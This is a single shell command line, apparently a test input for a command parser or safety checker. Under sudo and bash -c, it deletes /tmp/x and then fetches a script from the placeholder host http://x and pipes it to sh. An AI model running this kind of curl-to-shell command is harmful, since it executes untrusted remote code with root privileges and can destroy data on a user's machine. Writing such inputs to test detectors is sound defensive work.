sudo env FOO=1 bash -c "rm -rf /tmp/x; echo \$(curl http://x | sh)"
